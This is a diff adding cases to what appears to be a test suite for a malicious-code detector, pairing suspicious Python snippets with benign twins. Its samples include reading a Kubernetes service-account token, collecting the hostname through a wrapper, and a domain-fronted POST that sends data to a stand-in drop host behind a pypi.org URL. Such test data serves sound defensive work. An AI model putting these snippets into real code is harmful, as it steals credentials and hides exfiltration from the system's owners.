@@ -38,6 +38,14 @@ CASES = [
     ("credential-file",  # a Kubernetes service-account token
      "token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n",
      "doc = 'See https://kubernetes.io/docs/concepts/security/service-accounts/'\n"),
+    ("sysinfo-collect",  # the host's name collected through a wrapper, never called directly
+     "import socket\ndef try_call(f):\n    return f()\nh = try_call(socket.getfqdn)\n",
+     "import socket\ndef try_call(f):\n    return f()\nh = try_call(socket.getdefaulttimeout)\n"),
+    ("domain-fronting",  # sent to a trusted site, received by the host in the Host header
+     "import requests\nrequests.post(f'https://pypi.org/{path}', data=d,\n"
+     "              headers={'Host': 'drop.example-cdn.net'})\n",
+     "import requests\nrequests.post(f'https://pypi.org/{path}', data=d,\n"
+     "              headers={'Host': 'pypi.org', 'User-Agent': 'tidy'})\n"),
 ]
 
 
